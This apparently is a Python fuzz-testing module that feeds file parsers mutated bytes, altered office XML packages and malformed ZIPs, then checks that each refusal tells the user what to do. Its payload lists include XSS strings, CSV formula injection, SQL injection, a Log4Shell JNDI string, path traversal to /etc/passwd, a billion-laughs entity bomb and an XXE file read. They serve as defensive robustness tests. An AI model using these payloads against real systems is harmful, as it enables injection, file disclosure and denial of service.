"""What whoever means ill, or a broken disk, makes of a file: mutations of real ones, values of every kind, odd ZIPs.

Properties count what they tried by surface, so that `python -m benchmarks.fuzz` runs the very same ones for long and
tells how much they saw. EN_REGARD_FUZZ multiplies the examples of each.
"""

from __future__ import annotations

import datetime
import io
import os
import re
import traceback
import warnings
import zipfile
from collections import Counter
from collections.abc import Callable, Sequence
from typing import Any, TypeVar

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from lxml import etree

T = TypeVar("T")
TRIED: Counter[str] = Counter()
# Where a long run is to go on after a fault: each by its surface, kind and place, told once.
FAULTS: dict[str, str] | None = None
_TIMES = int(os.environ.get("EN_REGARD_FUZZ", "1"))
# Of one input, on a machine that does other things too.
_SECONDS = 20
# « … : faire ceci », « 20 Mo au plus »: what a refusal gives its reader to do.
_REMEDY = re.compile(r"\bdoit\b|attendu|manque|[\w»)”] : \S|[,;] (?:puis|ou) |au plus|\n  -> \S")

# Signs that have undone programs: controls, halves of pairs, marks of direction, what has no case or several letters.
SIGNS = (
    *("\0", "\x01", "\t", "\r", "\n", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\xa0", "\u200b", "\u2028", "\u202e"),
    *(
        "\ufeff",
        "\ufffe",
        "\U0001f468\u200d\U0001f469",
        "e\u0301",
        "ﬁ",
        "İ",
        "ß",
        "٣",
        "Ⅻ",
        "\U0010ffff",
        "&",
        "<",
        '"',
    ),
)
# Texts that something may take for more than words.
PAYLOADS = (
    *(
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "</style><svg onload=alert(1)>",
        "]]>",
        "&lt;b&gt;",
    ),
    *("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://mal.example","x")'),
    *("![](http://mal.example/x.png)", "[x](javascript:alert(1))", "# titre", "|a|b|", '#read("/etc/passwd")', "$x$"),
    *('#image("/etc/passwd")', "#panic()", "`raw`", "{{ 7*7 }}", "{% raw %}", "%s%n", "'; DROP TABLE action; --", "\\"),
    *("../../etc/passwd", "file:///etc/passwd", "${jndi:ldap://mal.example}", "\ud800", "A" * 20_000, "(" * 2_000),
)
texts = st.one_of(st.sampled_from(PAYLOADS), st.sampled_from(SIGNS), st.text(max_size=40))
NUMBERS = (0, -1, 1, 2**31, 2**53, 2**63, -(2**63) - 1, 10**400, 1e308, -0.0, float("nan"), float("inf"))
numbers = st.one_of(st.sampled_from(NUMBERS), st.integers(), st.floats())
plain_values = st.one_of(st.none(), st.booleans(), numbers, texts)
# What JSON can hold.
values = st.recursive(
    plain_values, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4), max_leaves=12
)
# What TOML can hold beside.
days = st.sampled_from(
    [
        datetime.date(1, 1, 1),
        datetime.date(9999, 12, 31),
        datetime.datetime(2025, 1, 1, 12, tzinfo=datetime.UTC),
        datetime.time(12, 0),
    ]
)


def patiently(examples: int) -> settings:
    """So many examples, as many times more as EN_REGARD_FUZZ says, each within seconds."""
    return settings(
        max_examples=examples * _TIMES,
        deadline=datetime.timedelta(seconds=_SECONDS),
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
        database=None,
    )


def asked(surface: str, how: Callable[[], T], *declared: type[Exception], has_remedy: bool = True) -> T | None:
    """What is given, or None where it is refused as declared, in words that say what to do. Any other error is a
    fault."""
    TRIED[surface] += 1
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return how()
    except declared as error:
        refusal = str(error)
    except Exception as error:
        return _fault(surface, error)
    try:
        assert refusal.strip(), f"{surface} refuses without a word"
        assert len(refusal) < 5_000, f"{surface} repeats what it was given"
        assert not has_remedy or _REMEDY.search(refusal), f"{surface} refuses without a remedy: {refusal[:200]}"
    except AssertionError as error:
        return _fault(surface, error)
    return None


def _fault(surface: str, error: Exception) -> None:
    if FAULTS is None:
        raise error
    last = traceback.extract_tb(error.__traceback__)[-1]
    own = next(
        (one for one in reversed(traceback.extract_tb(error.__traceback__)) if "/site-packages/" not in one.filename),
        last,
    )
    where = f"{surface}: {type(error).__name__} at {own.filename.split('/')[-1]}:{own.lineno}"
    FAULTS.setdefault(where, str(error)[:200])


# Bytes

_OPERATIONS = ("flip", "cut", "drop", "double", "insert", "swap", "end")
ODD_BYTES = (b"\0\0\0\0", b"\xff\xff\xff\xff", b"\r", b'"', b";", b"<", b"\xef\xbb\xbf")
Recipe = Sequence[tuple[str, int, int, bytes]]
recipes: st.SearchStrategy[Recipe] = st.lists(
    st.tuples(
        st.sampled_from(_OPERATIONS),
        st.integers(0, 10_000),
        st.integers(1, 400),
        st.binary(max_size=8) | st.sampled_from(ODD_BYTES),
    ),
    max_size=6,
)  # fmt: skip


def mutated(content: bytes, recipe: Recipe) -> bytes:
    """The bytes, each step of the recipe done to them; places are in ten-thousandths of the whole."""
    held = bytearray(content)
    for what, place, length, more in recipe:
        at = len(held) * place // 10_001
        if what == "flip" and held:
            held[at] ^= 1 << (length % 8)
        elif what == "cut":
            del held[at:]
        elif what == "drop":
            del held[at : at + length]
        elif what == "double":
            held[at:at] = held[at : at + length]
        elif what == "insert":
            held[at:at] = more
        elif what == "swap":
            held[at : at + len(more)] = more
        elif what == "end":
            held += held[at : at + length]
    return bytes(held)


# Packages of an office: XML within a ZIP

LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY b "ha">'
    + b"".join(b'<!ENTITY b%d "%s">' % (at, b"&b%d;" % (at - 1) * 10 if at else b"&b;" * 10) for at in range(12))
    + b"]><a>&b11;</a>"
)
ODD_PARTS = (
    *(b"", b"<", b"\0" * 64, b"\xff\xfe<\0a\0/\0>\0", b"<a/>", b"not XML", LAUGHS, b"<a>" * 5_000, b"<a x='1' x='2'/>"),
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
)
# Of an attribute or a text: numbers that are none or too large, references to elsewhere.
ODD_VALUES = (
    *(
        "",
        "x",
        "-1",
        "0",
        "1e9",
        "NaN",
        "99999999999999999999",
        "1048577",
        "XFE1048577",
        "A0",
        "rId999",
        "..",
        "\u202e",
    ),
    *("true", "restart", "../../../etc/passwd", "http://mal.example/", "2147483648", "A" * 3_000, "s", "n", "str", "b"),
)
_XML = ("attribute", "words", "double", "many", "remove", "deep", "bytes", "part", "gone", "again")
PackageRecipe = Sequence[tuple[str, int, int, str, Recipe, bytes]]
package_recipes: st.SearchStrategy[PackageRecipe] = st.lists(
    st.tuples(
        st.sampled_from(_XML),
        st.integers(0, 10_000),
        st.integers(0, 10_000),
        st.sampled_from(ODD_VALUES) | st.sampled_from(PAYLOADS),
        recipes,
        st.sampled_from(ODD_PARTS),
    ),
    min_size=1,
    max_size=4,
)


def changed_package(content: bytes, recipe: PackageRecipe) -> bytes:
    """A ZIP of XML parts, each step done to one of its parts."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = [(one.filename, package.read(one)) for one in package.infolist()]
    for what, of, at, value, recipe_, odd in recipe:
        if not parts:
            break
        chosen = of % len(parts)
        name, held = parts[chosen]
        if what == "gone":
            del parts[chosen]
        elif what == "again":
            parts.append((name, odd))
        elif what in ("bytes", "part"):
            parts[chosen] = (name, mutated(held, recipe_) if what == "bytes" else odd)
        else:
            parts[chosen] = (name, _changed_xml(held, what, at, value))
    return zipped(*parts)


def _changed_xml(held: bytes, what: str, at: int, value: str) -> bytes:
    try:
        root = etree.fromstring(held)
    except etree.XMLSyntaxError:
        return held
    elements = list(root.iter(etree.Element))
    one = elements[at % len(elements)]
    clean = re.sub(r"[^\t\n\x20-\ud7ff\ue000-\ufffd]", "", value)
    if what == "attribute" and one.attrib:
        one.set(sorted(one.attrib)[at % len(one.attrib)], clean)
    elif what == "words":
        one.text = clean
    elif one is not root:
        parent, copy = one.getparent(), etree.fromstring(etree.tostring(one))
        if what == "remove":
            parent.remove(one)
        elif what in ("double", "many"):
            for _ in range(1 if what == "double" else 300):
                parent.append(etree.fromstring(etree.tostring(copy)))
        elif what == "deep":
            for _ in range(120):
                inner = etree.SubElement(one, one.tag, one.attrib)
                one = inner
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


# ZIPs


def zipped(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these entries, in this order, whatever their names."""
    held = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(held, "w", method) as package:
        warnings.simplefilter("ignore")
        for name, content in entries:
            package.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return held.getvalue()


def linked(name: str, to: str) -> bytes:
    """A ZIP whose one entry is a symbolic link."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as package:
        entry = zipfile.ZipInfo(name)
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        package.writestr(entry, to)
    return held.getvalue()


def understated(content: bytes, size: int) -> bytes:
    """The ZIP, each of its entries said to unfold to so many bytes, whatever they hold."""
    held = bytearray(content)
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = held.find(mark)
        while at >= 0:
            held[at + offset : at + offset + 4] = size.to_bytes(4, "little")
            at = held.find(mark, at + 4)
    return bytes(held)


NAMES = (
    *("../text.txt", "/etc/passwd", "C:\\x", "..\\text.txt", "plan/../../text.txt", "plan/text.txt/x"),
    *("plan//text.txt", "plan/TEXT.TXT", "PLAN/text.txt", "plan/received.exe", "plan/received.xlsx.sh"),
    *("plan/.env", "plan/", "plan", ""),
    *("plan/text.txt\0.csv", "plan/te\u202ext.txt", "a" * 300 + "/text.txt", "./plan/text.txt", "autre/text.txt"),
)  # fmt: skip


def any_value() -> st.SearchStrategy[Any]:
    """Any value of JSON or TOML."""
    return st.one_of(values, days)
